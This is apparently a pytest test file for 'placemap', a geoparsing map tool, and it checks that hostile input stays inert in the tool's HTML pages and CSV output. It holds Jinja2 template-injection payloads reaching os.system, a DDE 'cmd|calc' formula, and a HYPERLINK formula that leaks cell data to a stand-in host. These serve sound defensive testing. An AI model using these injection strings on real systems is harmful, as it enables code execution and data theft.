"""Hostile text on the output side: template syntax in every field that reaches a map
page, spreadsheet formulas in the CSV cells placemap writes, page file names that
collide on other systems, and output locations that cannot be written."""

from __future__ import annotations

import builtins
import csv
import errno
import html
import io
import json
import os
import re
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from placemap.cli import cli
from placemap.maps import collection_map, index_page, render, report_filenames, report_map
from placemap.records import Mention, Place, Report
from placemap.writers import COLUMNS, FORMULA_START

# Jinja2 syntax: a command, an expression, a block and a comment left open. Any of them
# compiled by branca runs, prints 49, or aborts the run.
TEMPLATE_PAYLOADS = [
    "{{ cycler.__init__.__globals__.os.system('touch MARKER') }}",
    "{{ 7*7 }}",
    "{% for x in range(3) %}",
    "{#",
]
BODY = "Fighting near Palmyra in Syria. {p} Homs is calm."
# A report whose map page (90 kB) and JSON line are over 64 kB: 250 long sentences.
LONG = ("Shelling hit Homs again" + ", and the roads out of town stayed closed" * 10 + ". ") * 250


@pytest.fixture()
def run(small_index: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    """``placemap ARGS`` run in ``tmp_path`` (where an injected ``touch MARKER`` would
    leave its file) against the small test index."""
    monkeypatch.setenv("PLACEMAP_GAZETTEER", str(small_index))
    monkeypatch.chdir(tmp_path)

    def invoke(*args: str | Path):
        return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)

    return invoke


def _data(page: str) -> dict:
    mo = re.search(r'<script type="application/json" id="placemap-data">(.*?)</script>', page, re.S)
    assert mo, "page has no data block"
    return json.loads(mo.group(1))


def _title(page: str) -> str:
    titles = re.findall(r"<title>(.*?)</title>", page, re.S)
    assert len(titles) == 1, titles
    return html.unescape(titles[0])


def _pages(out: Path) -> dict[str, str]:
    return {p.name: p.read_text("utf-8") for p in sorted(out.glob("*.html"))}


# --- templates ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", TEMPLATE_PAYLOADS)
@pytest.mark.parametrize("assets", [None, "assets/"])
def test_template_syntax_in_every_report_field_stays_text(
    payload: str, assets: str | None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    text = BODY.format(p=payload)
    start = text.index("Homs")
    place = Place(1, f"Homs {payload}", "Homs", 34.7, 36.7, "P", "PPL", "SY", "11", payload)
    mention = Mention(start, start + 4, "Homs", place, 0.5)
    unresolved = Mention(0, 8, "Fighting", None, 0.0)
    r = Report(payload, text, payload, payload, f"{payload}/{payload}.txt", (unresolved, mention))
    pages = [
        render(report_map(r, assets=assets)),
        render(collection_map([r, r], links=["a.html", "b.html"], title=payload, assets=assets)),
    ]
    assert not (tmp_path / "MARKER").exists()
    for page in pages:
        assert _title(page) == payload
        data = _data(page)
        assert data["title"] == payload
        assert data["P"][0][2] == f"Homs {payload}" and data["P"][0][5] == payload
        # the date reaches the page as its ISO day (the first ten characters)
        assert data["R"][0][:3] == [payload, payload[:10], f"{payload}/{payload}.txt"]
        assert data["H"][0][0][3][0][0] == f"{payload} Homs is calm."
    assert _data(pages[0])["panel"]["low"][0][1] == f"Homs {payload} (P.PPL, SY)"


@pytest.mark.parametrize("payload", TEMPLATE_PAYLOADS)
def test_map_command_writes_template_syntax_from_every_input_as_text(
    run, tmp_path: Path, payload: str
) -> None:
    body = BODY.format(p=payload)
    ins = tmp_path / "in"
    ins.mkdir()
    # a text's first line, an HTML page's <title> and og:title, JSON Lines and CSV title
    # fields, and a file name (the title of a text whose first line is no headline)
    (ins / "note.txt").write_text(f"Shelling report {payload} from Homs\n\n{body}\n", "utf-8")
    attr = html.escape(f"OG {payload}")
    (ins / "page.html").write_text(
        f"<html><head><title>{html.escape(payload)} page</title>"
        f"<meta property='og:title' content='{attr}'></head>"
        f"<body><article><p>{html.escape(body)}</p></article></body></html>",
        "utf-8",
    )
    (ins / "feed.jsonl").write_text(
        json.dumps({"id": "j1", "title": f"J {payload}", "date": payload, "text": body}) + "\n",
        "utf-8",
    )
    with (ins / "rows.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["id", "title", "text"], ["c1", f"C {payload}", body]])
    (ins / f"{payload}.txt").write_text("Homs.\n" * 8 + body, "utf-8")  # no headline
    files = [ins / n for n in ("note.txt", "page.html", "feed.jsonl", "rows.csv")]
    files.append(ins / f"{payload}.txt")
    out = tmp_path / "out"
    r = run("map", *files, "-o", out, "--title", f"T {payload}")
    assert r.exit_code == 0, r.output
    assert not (tmp_path / "MARKER").exists()
    pages = _pages(out)
    index = pages.pop("index.html")
    html_title = _title(pages["page.html"])
    assert html_title in (f"{payload} page", f"OG {payload}")
    titles = [f"Shelling report {payload} from Homs", html_title, f"J {payload}"]
    titles += [f"C {payload}", payload]
    coll = pages.pop("collection.html")
    assert _title(coll) == _data(coll)["title"] == f"T {payload}"
    assert sorted(row[0] for row in _data(coll)["R"]) == sorted(titles)
    assert sorted(_title(p) for p in pages.values()) == sorted(titles)
    assert _data(pages["j1.html"])["R"][0][1] == ""  # not a date: none on the map
    for name, page in pages.items():  # the body text, in the sentences naming Homs
        assert payload in json.dumps(_data(page)["H"], ensure_ascii=False), name
    shown = html.unescape(index)
    assert all(t in shown for t in titles)


@pytest.mark.parametrize("payload", TEMPLATE_PAYLOADS)
def test_map_command_writes_template_syntax_from_a_table_as_text(
    run, tmp_path: Path, payload: str
) -> None:
    table = tmp_path / f"{payload}.csv"
    table.write_text(
        f'name,lat,lon,g\n"{payload}",34.7,36.7,"{payload}"\nPalmyra,34.56,38.27,plain\n',
        "utf-8",
    )
    out = tmp_path / "out"
    r = run("map", table, "--lat", "lat", "--lon", "lon", "--name-column", "name",
            "--group-by", "g", "-o", out)  # fmt: skip
    assert r.exit_code == 0, r.output
    pages = _pages(out)
    assert sorted(_title(p) for n, p in pages.items() if n != "index.html") == sorted(
        ["placemap", f"g: {payload}", "g: plain"]
    )
    coll = _data(pages["collection.html"])
    assert sorted(p[2] for p in coll["P"]) == sorted([payload, "Palmyra"])
    # without --group-by the table is one report, titled by its file name
    r = run("map", table, "--lat", "lat", "--lon", "lon", "-o", tmp_path / "one")
    assert r.exit_code == 0, r.output
    assert _data(_pages(tmp_path / "one")["collection.html"])["R"][0][0] == payload
    assert not (tmp_path / "MARKER").exists()


@pytest.mark.parametrize(
    "template",
    [
        "https://tiles.example.org/{z}/{x}/{y}.png?k={{7*7}}",
        # no quotes or spaces in a URL, and still a call: os.mkdir('MARKER')
        "https://x{{cycler.__init__.__globals__.os.mkdir(dict(MARKER=1)|first)}}/{z}/{x}/{y}",
    ],
)
def test_map_command_tile_url_with_template_syntax_is_refused(
    run, tmp_path: Path, template: str
) -> None:
    # (Such URLs were once written into the pages as text; a tile URL's {keys} are now
    # limited to Leaflet's own, so they are a usage error, before anything is rendered.)
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text(BODY.format(p="Quiet."), "utf-8")
    r = run("map", tmp_path / "in", "-o", tmp_path / "out", "--tiles", template)
    assert r.exit_code == 2, r.output
    assert "Invalid value for '--tiles'" in r.output
    assert not (tmp_path / "MARKER").exists()
    assert not (tmp_path / "out").exists()


# --- spreadsheet formulas -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
# An overlay place whose name is a formula, found in a text by its other spelling; its
# longitude is negative, as every number in the west.
EVIL_OVERLAY = (
    "name,lat,lon,country,alternate_names\n\"=cmd|'/C calc'!A0\",34.5,-36.5,SY,Zarqaville\n"
)


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_extract_csv_cells_never_start_a_formula(run, tmp_path: Path) -> None:
    (tmp_path / "evil.csv").write_text(EVIL_OVERLAY, "utf-8")
    records = [
        {"id": f, "title": f, "date": f, "text": "Shelling hit Zarqaville and Homs."}
        for f in FORMULAS
    ]
    records.append({"id": "a\rb", "title": "carriage\rreturn", "text": "Fighting in Homs."})
    (tmp_path / "in.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), "utf-8")
    out = tmp_path / "m.csv"
    r = run("extract", tmp_path / "in.jsonl", "--overlay", tmp_path / "evil.csv",
            "--format", "csv", "-o", out)  # fmt: skip
    assert r.exit_code == 0, r.output
    rows = _csv_rows(out)
    header, rows = rows[0], rows[1:]
    assert len(rows) == 2 * len(FORMULAS) + 1  # a lone CR in an id splits no row
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    for i, c in enumerate(cells[:-1]):
        f = FORMULAS[i // 2]
        assert c["report_id"] == "'" + f
        # titles and dates lose surrounding blanks (then they start no formula)
        assert c["title"] in ("'" + f, f.strip()) and c["date_raw"] in ("'" + f, f.strip())
        assert c["date"] == ""  # no date: the raw string stays in date_raw
    assert [c["name"] for c in cells[:2]] == ["'=cmd|'/C calc'!A0", "Homs"]
    assert (cells[-1]["report_id"], cells[-1]["title"]) == ("a\rb", "carriage\rreturn")
    text_columns = [c for c, t in COLUMNS.items() if t == "string"]
    assert not [c[k] for c in cells for k in text_columns if c[k].startswith(FORMULA_START)]
    # numbers stay numbers: a negative longitude is no formula
    df = pd.read_csv(out, dtype={"geonameid": "Int64"})
    assert len(df) == len(rows)
    assert df["lon"].dtype == "float64" and df["lon"].iloc[0] == -36.5
    assert df["confidence"].dtype == "float64"


def test_geocode_csv_makes_its_own_columns_safe_and_keeps_the_tables(run, tmp_path: Path) -> None:
    (tmp_path / "evil.csv").write_text(EVIL_OVERLAY, "utf-8")
    table = tmp_path / "t.csv"
    with table.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(
            [["location", "note"], ["Zarqaville", "=1+2"], ["Homs", "-5"], ["Homs", "a\rb"]]
        )
    out = tmp_path / "g.csv"
    r = run("geocode", table, "--column", "location", "--overlay", tmp_path / "evil.csv",
            "-o", out)  # fmt: skip
    assert r.exit_code == 0, r.output
    rows = _csv_rows(out)
    assert len(rows) == 4
    df = pd.read_csv(out, dtype={"note": str})
    assert list(df["resolved_name"]) == ["'=cmd|'/C calc'!A0", "Homs", "Homs"]
    # the table's own cells too (a CSV placemap writes starts no formula; red team round 2,
    # R6: from JSON Lines or Parquet the cells had been in no spreadsheet); numbers stay
    assert list(df["note"]) == ["'=1+2", "-5", "a\rb"]
    assert df["lon"].dtype == "float64" and df["lon"].iloc[0] == -36.5
    # JSON Lines are data, not a spreadsheet: written as they are
    r = run("geocode", table, "--column", "location", "--overlay", tmp_path / "evil.csv",
            "-o", tmp_path / "g.jsonl")  # fmt: skip
    assert r.exit_code == 0, r.output
    first = json.loads((tmp_path / "g.jsonl").read_text("utf-8").splitlines()[0])
    assert first["resolved_name"] == "=cmd|'/C calc'!A0"


def test_geocode_csv_column_names_and_dictionary_text_start_no_formula(
    run, tmp_path: Path
) -> None:
    # A JSON key or a Parquet column name is a cell of the CSV's first row, and Parquet's
    # dictionary-encoded text was not taken for text: both were written bare (red team
    # round 3).
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = tmp_path / "t.parquet"
    notes = pa.array(['=HYPERLINK("http://x.example/","x")', "-1+cmd|x"]).dictionary_encode()
    pq.write_table(
        pa.table({"location": ["Homs", "Aleppo"], "=cmd|' /C calc'!A0": notes}), table
    )
    out = tmp_path / "g.csv"
    r = run("geocode", table, "--column", "location", "-o", out)
    assert r.exit_code == 0, r.output
    rows = _csv_rows(out)
    assert rows[0][:2] == ["location", "'=cmd|' /C calc'!A0"]
    assert [row[1] for row in rows[1:]] == ["'=HYPERLINK(\"http://x.example/\",\"x\")", "'-1+cmd|x"]
    lines = tmp_path / "t.jsonl"
    lines.write_text('{"location": "Homs", "@SUM(A1)": "a"}\n', "utf-8")
    r = run("geocode", lines, "--column", "location", "-o", out)
    assert r.exit_code == 0, r.output
    assert _csv_rows(out)[0][:2] == ["location", "'@SUM(A1)"]


@pytest.mark.parametrize(
    "cell",
    [
        "\uff1dHYPERLINK(1)", "\uff0b1+2", "\uff0d1", "\uff20SUM(A1)", " =1+2", "\xa0=1",
        "\u3000=1", "\ufeff=1", "\u200b=1", "\ufe66SUM(A1)", "\ufe62\ufe63\ufe6b",
        # hostile round 7 (I1): other invisible format characters before a sign, and the
        # signs' superscript, subscript and other forms NFKC makes signs of
        "\u2060=HYPERLINK(1)", "\u200d+1+1", "\u00ad@SUM(1)", "\u200e-2+3", "\u202a=1+1",
        "\u207c1+1", "\u208a1+1", "\ufb291+1", "\u2a751",
    ],
)
def test_formulas_after_white_space_or_in_full_width_signs_are_text(cell: str) -> None:
    from placemap.writers import spreadsheet_safe

    assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe("Homs =") == "Homs =" and spreadsheet_safe(-4.5) == -4.5


def test_eval_misses_csv_cells_never_start_a_formula(small_index: Path, tmp_path: Path) -> None:
    from placemap.evaluate import evaluate
    from placemap.gazetteer import Gazetteer
    from placemap.pipeline import Geoparser

    text = "Shelling hit Homs."
    doc = {"id": "=1+2", "text": text, "toponyms": [
        {"start": 13, "end": 17, "name": "@Homs", "lat": -40.0, "lon": -70.0}
    ]}  # fmt: skip
    corpus = tmp_path / "c.jsonl"
    corpus.write_text(json.dumps(doc) + "\n", "utf-8")
    evaluate(Geoparser(Gazetteer(small_index)), corpus, misses_csv=tmp_path / "m.csv")
    [header, row] = _csv_rows(tmp_path / "m.csv")
    assert row[1:4] == ["'=1+2", "'@Homs", "' -40.000,-70.000"]
    assert float(row[0]) > 161
    # Red team, hostile round 9: a lone CR was left bare, and a spreadsheet (or pandas)
    # ended the row there: "@SUM(...)" opened a row of its own.
    doc["toponyms"][0]["name"] = "x\r@SUM(1+1)"
    corpus.write_text(json.dumps(doc) + "\n", "utf-8")
    evaluate(Geoparser(Gazetteer(small_index)), corpus, misses_csv=tmp_path / "m.csv")
    assert b'"x\r@SUM(1+1)"' in (tmp_path / "m.csv").read_bytes()
    [header, row] = _csv_rows(tmp_path / "m.csv")
    assert row[2] == "x\r@SUM(1+1)"


# --- page file names --------------------------------------------------------------------

WINDOWS_DEVICES = {"con", "prn", "aux", "nul"} | {
    f"{d}{i}" for d in ("com", "lpt") for i in range(10)
}


def test_page_file_names_differ_ignoring_case_and_are_never_windows_devices() -> None:
    ids = ["Report", "report", "REPORT", "report-2", "CON", "nul", "COM1", "LPT9", "con.txt"]
    ids += ["Aux.tar.gz", "prn.", "Index", "COLLECTION", "assets", "console", "com10"]
    names = report_filenames([Report(i, "") for i in ids])
    folded = [n.lower() for n in names]
    assert len(set(folded)) == len(names)
    assert not {"index.html", "collection.html", "assets"} & set(folded)
    assert not [n for n in folded if n.split(".")[0] in WINDOWS_DEVICES]
    assert names == [
        *("Report.html", "report-2.html", "REPORT-3.html", "report-2-2.html"),
        *("CON_.html", "nul_.html", "COM1_.html", "LPT9_.html", "con_.txt.html"),
        *("Aux_.tar.gz.html", "prn_.html", "Index-2.html", "COLLECTION-2.html"),
        *("assets.html", "console.html", "com10.html"),
    ]


def test_map_command_writes_one_page_per_report_on_any_file_system(run, tmp_path: Path) -> None:
    ids = ["Report", "report", "CON", "index"]
    feed = tmp_path / "feed.jsonl"
    feed.write_text("".join(json.dumps({"id": i, "text": BODY}) + "\n" for i in ids), "utf-8")
    assert run("map", feed, "-o", tmp_path / "out").exit_code == 0
    pages = sorted(p.name.lower() for p in (tmp_path / "out").glob("*.html"))
    assert pages == sorted(["report.html", "report-2.html", "con_.html", "index-2.html"]
                           + ["index.html", "collection.html"])  # fmt: skip
    links = [row[3] for row in _data((tmp_path / "out" / "collection.html").read_text())["R"]]
    assert [name.lower() for name in links] == ["report.html", "report-2.html", "con_.html",
                                                 "index-2.html"]  # fmt: skip


# --- output locations -------------------------------------------------------------------


@pytest.fixture()
def no_geoparsing(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the test if a command starts geoparsing."""

    def fail(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("the work started before the output was checked")

    monkeypatch.setattr("placemap.cli.mapping.geoparsed", fail)
    monkeypatch.setattr("placemap.cli.extract.geoparsed", fail)


@pytest.fixture()
def read_only(monkeypatch: pytest.MonkeyPatch):
    """Make a folder read-only as a user other than root finds it (root ignores the
    permission bits): making any file or folder inside it fails with EACCES."""
    folders: list[Path] = []
    real_open, real_os_open, real_mkdir = builtins.open, os.open, os.mkdir

    def inside(path: object) -> bool:
        if not isinstance(path, str | bytes | os.PathLike):
            return False
        p = Path(os.fsdecode(path)).absolute()
        return any(p != f and p.is_relative_to(f) for f in folders)

    def deny(path: object) -> None:
        raise PermissionError(errno.EACCES, "Permission denied", os.fsdecode(path))  # type: ignore[arg-type]

    def fake_open(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        if set(mode) & set("wax+") and inside(file):
            deny(file)
        return real_open(file, mode, *args, **kwargs)

    def fake_os_open(path: Any, flags: int, *args: Any, **kwargs: Any) -> int:
        if flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT) and inside(path):
            deny(path)
        return real_os_open(path, flags, *args, **kwargs)

    def fake_mkdir(path: Any, *args: Any, **kwargs: Any) -> None:
        if inside(path):
            deny(path)
        real_mkdir(path, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", fake_open)
    monkeypatch.setattr(io, "open", fake_open)
    monkeypatch.setattr(os, "open", fake_os_open)
    monkeypatch.setattr(os, "mkdir", fake_mkdir)
    return lambda folder: folders.append(folder.absolute())


@contextmanager
def file_size_limit(limit: int) -> Iterator[None]:
    """Writes past ``limit`` bytes of a file fail (EFBIG), as writes fail on a full disk."""
    resource = pytest.importorskip("resource")
    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # an error, not a kill
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, handler)


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def _reports(folder: Path, **texts: str) -> Path:
    folder.mkdir(exist_ok=True)
    for stem, text in texts.items():
        (folder / f"{stem}.txt").write_text(text, "utf-8")
    return folder


@pytest.mark.parametrize("command", ["map", "extract", "geocode"])
def test_an_output_under_a_file_fails_at_once_in_one_line(
    run, tmp_path: Path, no_geoparsing: None, command: str
) -> None:
    ins = _reports(tmp_path / "in", a=BODY)
    (tmp_path / "file").write_text("not a folder", "utf-8")
    out = tmp_path / "file" / {"map": "out", "extract": "out.jsonl", "geocode": "g.csv"}[command]
    if command == "geocode":
        (tmp_path / "t.csv").write_text("location\nHoms\n", "utf-8")
        r = run("geocode", tmp_path / "t.csv", "--column", "location", "-o", out)
    else:
        r = run(command, ins, "-o", out)
    assert r.exit_code == 1
    reason = "Not a directory" if command == "map" else f"{tmp_path / 'file'} is not a folder"
    assert r.output == f"placemap: error: {out}: cannot write here ({reason})\n"


@pytest.mark.parametrize("command", ["map", "extract"])
def test_a_read_only_output_folder_fails_at_once_in_one_line(
    run, tmp_path: Path, no_geoparsing: None, read_only, command: str
) -> None:
    ins = _reports(tmp_path / "in", a=BODY)
    folder = tmp_path / "ro"
    folder.mkdir()
    read_only(folder)
    out = folder / "out.jsonl" if command == "extract" else folder
    r = run(command, ins, "-o", out)
    assert r.exit_code == 1
    assert r.output.startswith(f"placemap: error: {out}: cannot write here (Permission denied")
    assert len(r.output.splitlines()) == 1
    assert list(folder.iterdir()) == []


def test_map_on_a_full_disk_leaves_the_folder_as_it_was(run, tmp_path: Path) -> None:
    ins = _reports(tmp_path / "in", a=BODY.format(p="Calm."), b=BODY.format(p="Quiet."))
    out = tmp_path / "out"
    assert run("map", ins, "-o", out).exit_code == 0
    before = _snapshot(out)
    # a changed report, and a long one whose page is too large to write
    _reports(ins, a=BODY.format(p="Shelling."), c=LONG)
    with file_size_limit(64_000):
        r = run("map", ins, "-o", out)
    assert r.exit_code == 1
    assert r.output == f"placemap: error: {out / 'c.html'}: cannot write here (File too large)\n"
    assert _snapshot(out) == before  # no page replaced, none added, nothing left behind
    assert sorted(p.name for p in out.iterdir()) == sorted([".placemap-maps", "a.html"] + [
        "b.html", "assets", "collection.html", "index.html"
    ])  # fmt: skip
    # a first run into a new folder leaves no pages without an index
    with file_size_limit(64_000):
        r = run("map", ins, "-o", tmp_path / "new", "--assets", "inline")
    assert r.exit_code == 1
    assert not (tmp_path / "new").exists()  # made by the run, and removed: nothing in it


def test_extract_on_a_full_disk_keeps_the_previous_output(run, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    assert run("extract", _reports(tmp_path / "in", a=BODY), "-o", out).exit_code == 0
    before = out.read_bytes()
    _reports(tmp_path / "in", c=LONG)
    with file_size_limit(64_000):
        r = run("extract", tmp_path / "in", "-o", out)
    assert r.exit_code == 1
    assert r.output == f"placemap: error: {out}: cannot write here (File too large)\n"
    assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "out.jsonl"]


def test_a_second_map_run_into_the_same_folder_is_refused(run, tmp_path: Path) -> None:
    fcntl = pytest.importorskip("fcntl")
    ins = _reports(tmp_path / "in", a=BODY)
    out = tmp_path / "out"
    out.mkdir()
    (out / ".placemap-new-stale").mkdir()  # left by a run that was killed
    with open(out / ".placemap.lock", "a") as held:
        fcntl.flock(held.fileno(), fcntl.LOCK_EX)  # as the first run holds it
        r = run("map", ins, "-o", out)
        assert r.exit_code == 1
        assert r.output == (
            f"placemap: error: {out}: another placemap run is writing to this folder; "
            "wait for it to end or choose another folder\n"
        )
        assert sorted(p.name for p in out.iterdir()) == [".placemap-new-stale", ".placemap.lock"]
    (out / ".placemap.lock").unlink()
    assert run("map", ins, "-o", out).exit_code == 0
    # the lock is released and the stale staging folder gone
    assert sorted(p.name for p in out.iterdir()) == [
        ".placemap-maps",
        "a.html",
        "assets",
        "collection.html",
        "index.html",
    ]


# --- report text reaches pages as it was --------------------------------------------------


def test_text_that_looks_like_an_element_id_is_kept(tmp_path: Path) -> None:
    """Pages number folium's random element ids for byte-identical output; report text of
    the same shape ("_" and 32 hex digits) is not theirs to renumber."""
    look_alike = "doc_0123456789abcdef0123456789abcdef"
    text = BODY.format(p=look_alike)
    place = Place(1, "Homs", "Homs", 34.7, 36.7, "P", "PPL", "SY")
    mention = Mention(text.index("Homs"), text.index("Homs") + 4, "Homs", place, 0.9)
    r = Report(look_alike, text, look_alike, None, look_alike, (mention,))
    for page in (render(report_map(r)), render(collection_map([r], title=look_alike))):
        assert _title(page) == look_alike
        data = _data(page)
        assert data["R"][0][0] == data["R"][0][2] == look_alike
        assert f"{look_alike} Homs is calm." in data["H"][0][0][3][0][0]
        # folium's own ids are numbered all the same
        assert not re.search(r"map_(?!0{31}[0-9a-f])[0-9a-f]{32}", page)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


INDEX_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "p", "a", "table"}
INDEX_TAGS |= {"thead", "tbody", "tr", "th", "td"}
INDEX_TAGS |= {"input", "span", "div", "button", "script"}  # the search box and sorting


@given(st.text(min_size=1), st.text(), st.text())
@settings(max_examples=60, deadline=None)
def test_the_index_shows_any_text_as_text(title: str, date: str, source: str) -> None:
    r = Report("r", "", title=title, date=date, source=source)
    parser = _Tags()
    parser.feed(index_page([r], ["r.html"], title=title))
    parser.close()
    assert parser.tags <= INDEX_TAGS  # no element from the text
    def lines(text: str) -> str:  # line ends as HTML reads them
        return text.replace("\r\n", "\n").replace("\r", "\n")

    shown = lines("".join(parser.text))
    for value in (title, date, source):
        assert lines(value) in shown


def test_maps_never_replace_files_placemap_did_not_write(run, tmp_path: Path) -> None:
    # map in/a.txt -o in replaced the user's own in/a.html and in/index.html, and the
    # marker it left made later runs skip the reports folder as "maps"
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text("Shelling hit Homs, Syria.\n", "utf-8")
    (folder / "a.html").write_text("<p>mine</p>\n", "utf-8")
    (folder / "index.html").write_text("notes\n", "utf-8")
    before = sorted(p.name for p in folder.iterdir())
    r = run("map", folder / "a.txt", "-o", folder)
    assert r.exit_code == 1 and "holds the input a.txt" in r.output
    assert sorted(p.name for p in folder.iterdir()) == before
    # a folder of the user's with a file of a page's name, and no marker, is refused too
    other = tmp_path / "other"
    other.mkdir()
    (other / "a.html").write_text("<p>mine</p>\n", "utf-8")
    r = run("map", folder / "a.txt", "-o", other)
    # (an HTML file is a report too: refused as one before its name is looked at)
    assert r.exit_code == 1 and "holds reports" in r.output and "a.html" in r.output
    assert [p.name for p in other.iterdir()] == ["a.html"]
    # nor a folder that holds other reports, below it too (its marker hid them from every
    # later run; red team round 2, R7)
    proj = tmp_path / "proj"
    (proj / "reports").mkdir(parents=True)
    (proj / "reports" / "r.txt").write_text("Floods in Kherson.\n", "utf-8")
    r = run("map", folder / "a.txt", "-o", proj)
    assert r.exit_code == 1 and "holds reports" in r.output and "r.txt" in r.output
    assert [p.name for p in proj.iterdir()] == ["reports"]
    # placemap's own folder of maps is written again
    maps = tmp_path / "maps"
    assert run("map", folder / "a.txt", "-o", maps).exit_code == 0
    assert run("map", folder / "a.txt", "-o", maps).exit_code == 0


def test_a_folder_in_the_way_of_a_page_moves_no_page(run, tmp_path: Path) -> None:
    # a folder named like a page stopped the moves midway: the pages moved before it stayed
    report = tmp_path / "a.txt"
    report.write_text("Shelling hit Homs, Syria.\n", "utf-8")
    out = tmp_path / "o"
    assert run("map", report, "-o", out).exit_code == 0
    before = {p.name: p.stat().st_mtime_ns for p in out.iterdir() if p.is_file()}
    (out / "collection.html").unlink()
    (out / "collection.html").mkdir()
    r = run("map", report, "-o", out)
    assert r.exit_code == 1 and "collection.html: is a folder" in r.output
    after = {p.name: p.stat().st_mtime_ns for p in out.iterdir() if p.is_file()}
    assert after == {k: v for k, v in before.items() if k != "collection.html"}


def test_a_file_where_a_folder_goes_is_named_so(run, tmp_path: Path) -> None:
    # was "o/assets: cannot write here (File exists)"
    report = tmp_path / "a.txt"
    report.write_text("Shelling hit Homs, Syria.\n", "utf-8")
    out = tmp_path / "o"
    out.mkdir()
    (out / "assets").write_text("mine\n", "utf-8")
    r = run("map", report, "-o", out)
    assert r.exit_code == 1
    where = out / "assets"
    assert r.output == f"placemap: error: {where}: is no folder, where placemap needs one\n"


def test_geocode_csv_from_json_lines_starts_no_formula(run, tmp_path: Path) -> None:
    # From JSON Lines (or Parquet) placemap makes the CSV: the table's formula cells were
    # written bare (red team round 2, R6); plain numbers as text stay numbers
    table = tmp_path / "t.jsonl"
    row = {"location": "Homs", "note": '=HYPERLINK("http://x/?"&A1)', "n": "-2+3", "m": "-2.5"}
    table.write_text(json.dumps(row) + "\n", "utf-8")
    out = tmp_path / "g.csv"
    r = run("geocode", table, "--column", "location", "-o", out)
    assert r.exit_code == 0, r.output
    with out.open(encoding="utf-8", newline="") as fh:
        (got,) = list(csv.DictReader(fh))
    assert got["note"] == "'" + row["note"] and got["n"] == "'-2+3" and got["m"] == "-2.5"
